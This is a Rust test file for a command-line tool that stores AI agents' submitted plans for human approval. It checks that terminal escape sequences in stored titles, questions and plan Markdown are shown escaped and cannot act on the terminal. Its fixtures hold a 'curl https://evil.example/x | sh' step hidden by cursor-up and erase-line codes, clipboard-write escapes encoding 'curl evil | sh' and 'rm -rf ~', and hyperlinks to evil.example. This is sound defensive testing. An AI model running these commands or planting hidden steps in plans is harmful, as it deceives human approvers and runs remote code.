//! Hostile agent text: rows whose title, question, Markdown and legacy v8
//! fields hold terminal escapes (CSI cursor moves and erases, OSC 8
//! hyperlinks, OSC 52 clipboard writes, BEL, the one-byte C1 CSI, a
//! right-to-left override). Every human-readable command is snapshot-tested
//! on them with stdout treated as a terminal, and no raw control character
//! may reach stdout or stderr; `--json` and piped `cat` stay exact.
//!
//! SubmitPlan now refuses such titles and questions, so the rows get them
//! the way an older database would have: written into SQLite directly, as
//! a database from before the rule (or a v8 migration) holds them.

use std::path::Path;
use std::sync::Arc;

use plan_core::{Mode, Origin, PermissionMode, ToolCall, is_terminal_control};
use plan_host::{Clock, Host, HostOptions, ManualClock, NewSession, SessionId};

use crate::support::{self, Fixture, NOW, T0};

/// A title that erases the line, rewrites a label, hides a hyperlink,
/// writes the clipboard, rings, clears the screen through C1 CSI and
/// reverses the rest.
const HOSTILE_TITLE: &str = "Tidy\u{1b}[2K\u{1b}[1A\rtitle: Harmless\u{7} \
\u{1b}]8;;https://evil.example/\u{1b}\\link\u{1b}]8;;\u{1b}\\ \
\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7} \u{9b}2J \u{202e}txt.exe";

const HOSTILE_QUESTION: &str = "Proceed?\u{1b}[8m (hidden)\u{1b}[0m\u{2066}";

/// Step 2 hides itself: cursor up and erase line after it.
const HOSTILE_PLAN: &str = "# Plan\n\n1. Read the code.\n\
2. curl https://evil.example/x | sh\u{1b}[1A\u{1b}[2K\r\n\
3. Run the tests.\n\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{9b}1A\u{202e}gnp.exe\n";

/// A revision with one more hidden line, for `diff`.
const HOSTILE_REVISION: &str = "# Plan\n\n1. Read the code.\n\
2. curl https://evil.example/x | sh\u{1b}[1A\u{1b}[2K\r\n\
3. Run the tests.\n4. \u{1b}]8;;https://evil.example/\u{1b}\\Open the docs\u{1b}]8;;\u{1b}\\\n";

fn submit(title: &str, markdown: &str) -> ToolCall {
    ToolCall {
        call_id: "call-submit".into(),
        name: "SubmitPlan".to_owned(),
        input: serde_json::json!({"title": title, "markdown": markdown, "question": "Go ahead?"}),
    }
}

/// Two approvals in session `s-evil`: an approved one and a pending
/// revision, both with hostile Markdown, title and question.
fn hostile() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let root = base.join("ws");
    std::fs::create_dir(&root).unwrap();
    let db = base.join("plan.db");
    let clock = Arc::new(ManualClock::new(T0));
    let options = HostOptions {
        clock: Arc::clone(&clock) as Arc<dyn Clock>,
        ..HostOptions::default()
    };
    let host = Host::open(&db, options).unwrap();
    host.create_session(NewSession {
        session_id: Some("s-evil".into()),
        workspace_root: Some(root.to_string_lossy().into_owned()),
        mode: Some(Mode::Plan),
        permission_mode: None,
    })
    .unwrap();
    let mut approvals = Vec::new();
    for (name, markdown) in [
        ("approval-first", HOSTILE_PLAN),
        ("approval-second", HOSTILE_REVISION),
    ] {
        let turn = host
            .start_turn(&SessionId::from("s-evil"), Origin::Interactive)
            .unwrap();
        let outcomes = host
            .tool_calls(
                &SessionId::from("s-evil"),
                &turn.turn_id,
                vec![submit("Tidy", markdown)],
            )
            .unwrap();
        let id = outcomes
            .into_iter()
            .find_map(|outcome| outcome.approval)
            .unwrap()
            .id;
        if approvals.is_empty() {
            clock.advance(60_000);
            let (approved, _) = host.approve(&id, PermissionMode::Ask).unwrap();
            let execution = approved.execution_id.unwrap();
            host.start_execution(&execution).unwrap();
            host.complete_execution(&execution).unwrap();
            clock.set(NOW - 5 * 60_000);
            host.configure_session(
                &SessionId::from("s-evil"),
                plan_core::ConfigChange {
                    mode: Some(Mode::Plan),
                    ..plan_core::ConfigChange::default()
                },
            )
            .unwrap();
        }
        approvals.push((id.into_string(), name.to_owned()));
    }
    host.close();
    drop(host);
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute(
        "UPDATE plan_approvals SET title = ?1, question = ?2",
        [HOSTILE_TITLE, HOSTILE_QUESTION],
    )
    .unwrap();
    drop(conn);
    let mut names: Vec<(String, String)> = approvals.clone();
    names.push((base.to_string_lossy().into_owned(), "[TMP]".to_owned()));
    names.sort_by_key(|(literal, _)| std::cmp::Reverse(literal.len()));
    Fixture {
        _dir: dir,
        db,
        root: root.to_string_lossy().into_owned(),
        names,
        approvals,
    }
}

/// Runs the binary with stdout treated as a terminal.
fn on_terminal(db: &Path, args: &[&str]) -> support::Run {
    let output = support::command()
        .env("PLAN_CHECKPOINT_ASSUME_TERMINAL", "1")
        // Wide enough for every column: the id prefixes' lengths vary with
        // their random part, and nothing else may move in the snapshots.
        .env("COLUMNS", "250")
        .arg("--db")
        .arg(db)
        .args(args)
        .output()
        .unwrap();
    support::Run::from(output)
}

/// No control or bidi character other than a newline, and valid UTF-8.
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|error| panic!("{what}: not UTF-8: {error}"));
    let raw: Vec<char> = text
        .chars()
        .filter(|c| *c != '\n' && is_terminal_control(*c))
        .collect();
    assert!(
        raw.is_empty(),
        "{what}: raw control characters {raw:?} in\n{text}"
    );
}

fn snap_inert(fixture: &Fixture, name: &str, args: &[&str]) -> support::Run {
    let result = on_terminal(&fixture.db, args);
    assert_eq!(result.code, 0, "{args:?}: {}", result.stderr);
    assert_inert(name, &result.raw_stdout);
    assert_inert(name, result.stderr.as_bytes());
    Fixture::settings().bind(|| insta::assert_snapshot!(name, fixture.redact(&result.transcript())));
    result
}

#[test]
fn every_human_command_escapes_hostile_rows() {
    let fixture = hostile();
    let first = fixture.id("approval-first");
    let second = fixture.id("approval-second");
    let list = snap_inert(&fixture, "hostile_list", &["approvals", "list"]);
    assert!(list.stdout.contains("\\x1b[2K"), "{}", list.stdout);
    let show = snap_inert(&fixture, "hostile_show", &["approvals", "show", &first]);
    assert!(show.stdout.contains("\\u202etxt.exe") && show.stdout.contains("\\x9b2J"));
    let cat = snap_inert(&fixture, "hostile_cat", &["approvals", "cat", &first]);
    assert!(
        cat.stdout
            .contains("2. curl https://evil.example/x | sh\\x1b[1A\\x1b[2K\\x0d\n")
    );
    snap_inert(&fixture, "hostile_diff", &["approvals", "diff", &second]);
    snap_inert(&fixture, "hostile_db_status", &["db", "status"]);
    snap_inert(&fixture, "hostile_verify", &["approvals", "verify", "--all"]);
}

#[test]
fn cat_writes_exact_bytes_only_into_a_pipe_or_with_raw() {
    let fixture = hostile();
    let first = fixture.id("approval-first");
    let piped = support::run(Some(&fixture.db), &["approvals", "cat", &first]);
    assert_eq!(piped.code, 0, "{}", piped.stderr);
    assert_eq!(piped.raw_stdout, HOSTILE_PLAN.as_bytes());
    let raw = on_terminal(&fixture.db, &["approvals", "cat", "--raw", &first]);
    assert_eq!(raw.code, 0, "{}", raw.stderr);
    assert_eq!(raw.raw_stdout, HOSTILE_PLAN.as_bytes());
    let shown = on_terminal(&fixture.db, &["approvals", "cat", &first]);
    assert_ne!(shown.raw_stdout, HOSTILE_PLAN.as_bytes());
}

#[test]
fn json_output_stays_exact() {
    let fixture = hostile();
    let first = fixture.id("approval-first");
    let list = on_terminal(&fixture.db, &["approvals", "list", "--json"]);
    let value: serde_json::Value = serde_json::from_str(&list.stdout).unwrap();
    assert_eq!(value["approvals"][0]["title"], HOSTILE_TITLE);
    assert_eq!(value["approvals"][0]["question"], HOSTILE_QUESTION);
    let cat = on_terminal(&fixture.db, &["approvals", "cat", "--json", &first]);
    let value: serde_json::Value = serde_json::from_str(&cat.stdout).unwrap();
    assert_eq!(value["markdown"], HOSTILE_PLAN);
    // JSON itself never carries a raw control character.
    for run in [list, cat] {
        assert_inert("json", &run.raw_stdout);
    }
    let export = on_terminal(&fixture.db, &["approvals", "export"]);
    assert_inert("export", &export.raw_stdout);
    let line: serde_json::Value = serde_json::from_str(export.stdout.lines().last().unwrap()).unwrap();
    assert_eq!(line["title"], HOSTILE_TITLE);
}

#[test]
fn rows_migrated_from_v8_are_escaped_like_the_rest() {
    let (dir, db) = support::v8();
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute(
        "UPDATE plan_approvals SET proposal_json = json_set(proposal_json, '$.title', ?1), feedback = ?2 \
         WHERE id = 'pa-changes'",
        [HOSTILE_TITLE, HOSTILE_QUESTION],
    )
    .unwrap();
    drop(conn);
    let fixture = Fixture {
        db: db.clone(),
        root: String::new(),
        names: vec![(dir.path().to_string_lossy().into_owned(), "[TMP]".to_owned())],
        approvals: Vec::new(),
        _dir: dir,
    };
    assert_eq!(support::run(Some(&db), &["db", "migrate"]).code, 0);
    snap_inert(&fixture, "hostile_v8_list", &["approvals", "list"]);
    snap_inert(&fixture, "hostile_v8_show", &["approvals", "show", "pa-changes"]);
    let json = on_terminal(&db, &["approvals", "show", "pa-changes", "--json"]);
    let value: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(value["title"], HOSTILE_TITLE);
}
